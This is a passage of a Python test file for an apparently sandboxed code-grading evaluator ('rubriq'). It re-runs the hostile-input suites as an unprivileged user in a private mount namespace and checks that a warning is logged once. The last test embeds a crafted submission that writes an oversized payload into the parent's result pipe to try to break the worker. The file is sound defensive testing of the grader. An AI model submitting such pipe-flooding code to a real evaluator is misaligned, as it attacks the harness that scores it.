    home = Path(tempfile.mkdtemp(prefix="rubriq-nobody-", dir="/tmp"))
    os.chmod(home, 0o755)
    os.chown(home, 65534, 65534)
    script = ["set -eu"]
    # bind the repository, the venv and the interpreter back over an empty tmpfs where a 0700
    # directory above them (/root, a private temporary folder) would stop nobody, for this run only
    keep: dict[str, set[str]] = {}
    for prefix in {str(repo), str(Path(sys.prefix).resolve()), str(Path(sys.base_prefix).resolve())}:
        hidden = _hidden_ancestor(prefix)
        if hidden:
            keep.setdefault(hidden, set()).add(str(Path(hidden) / Path(prefix).relative_to(hidden).parts[0]))
    for i, (hidden, insides) in enumerate(sorted(keep.items())):
        stashes = [f"{tmp_path}/stash{i}_{j}" for j in range(len(insides))]
        script += [
            f"mkdir -p {s} && mount --bind {inside} {s}" for s, inside in zip(stashes, sorted(insides), strict=True)
        ]
        script.append(f"mount -t tmpfs -o mode=0755 tmpfs {hidden}")
        script += [
            f"mkdir -p {inside} && mount --move {s} {inside}"
            for s, inside in zip(stashes, sorted(insides), strict=True)
        ]
    pytest_cmd = [
        sys.executable,
        "-m",
        "pytest",
        "-p",
        "no:cacheprovider",
        "-o",
        f"timeout={int(300 * TIME_SCALE)}",
        "tests/test_hostile.py",
        "tests/test_seccomp.py",
        "tests/test_sandbox_integrity.py",
        "tests/test_sandbox_host.py",
        "tests/test_untrusted_round5.py",
        "-k",
        "not unprivileged",
    ]
    script.append(
        "exec setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all "
        + " ".join(f"'{a}'" for a in pytest_cmd)
    )
    from tests.test_sandbox_host import CANARIES_ENV, make_canaries, remove_canaries

    canaries = make_canaries(f"nobody-{os.getpid()}")  # nobody cannot write where they must lie
    env = {
        CANARIES_ENV: json.dumps({k: str(v) for k, v in canaries.items()}),
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "PYTHONDONTWRITEBYTECODE": "1",
        "HF_HUB_OFFLINE": "1",
        "RUBRIQ_SHARED": os.environ.get("RUBRIQ_SHARED", ""),
        "RUBRIQ_TEST_TIME_SCALE": str(TIME_SCALE),
    }
    try:
        proc = subprocess.run(
            ["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)],
            cwd=repo,
            env=env,
            capture_output=True,
            text=True,
            timeout=900 * TIME_SCALE,
        )
    finally:
        shutil.rmtree(home, ignore_errors=True)
        remove_canaries(canaries)
    tail = (proc.stdout + proc.stderr)[-3000:]
    assert proc.returncode == 0, tail
    assert " passed" in tail and " failed" not in tail and " error" not in tail, tail


def test_the_evaluator_says_once_what_the_sandbox_lacks(monkeypatch, caplog):
    import logging

    import rubriq.evaluator as ev_module
    from rubriq.extract import sandbox

    monkeypatch.setattr(sandbox, "environment_problems", lambda: ("user namespaces are disabled (test)",))
    monkeypatch.setattr(ev_module, "_WARNED", set())
    with caplog.at_level(logging.WARNING, logger="rubriq.evaluator"):
        first = RubriQEvaluator(target_algorithm="qft", num_qubits=2)
        RubriQEvaluator(target_algorithm="qft", num_qubits=3)
    assert first.sandbox_problems == ("user namespaces are disabled (test)",)
    warnings = [r.getMessage() for r in caplog.records if "sandbox" in r.getMessage()]
    assert len(warnings) == 1 and "error_type='sandbox'" in warnings[0]


def test_a_result_that_grows_when_reencoded_is_an_overflow_of_its_own_job():
    """The child owns its result pipe: 900 KB of 'é' (2 bytes raw, 6 once re-encoded as JSON)
    must be that job's overflow, not a frame too large for the parent that breaks the worker."""
    code = (
        HEADER + "import os\nw = max(int(f) for f in os.listdir('/proc/self/fd'))\n"
        "os.write(w, ('{\"error\": \"' + '\\u00e9' * 450000 + '\"}\\n').encode())\n"
        "os._exit(0)\n"
    )
    cfg = RubricConfig(extraction=ExtractionConfig(python_timeout_s=PY_TIMEOUT, python_prefilter=False))
    ev = RubriQEvaluator(target_algorithm="qft", num_qubits=2, config=cfg)
    result = ev.evaluate("```python\n" + code + "```")
    assert result.error_type == "parse" and result.reward == 0.0, result.to_dict()
    after = ev.evaluate(HONEST_QFT2)
    assert after.error is None and after.reward > 0.8
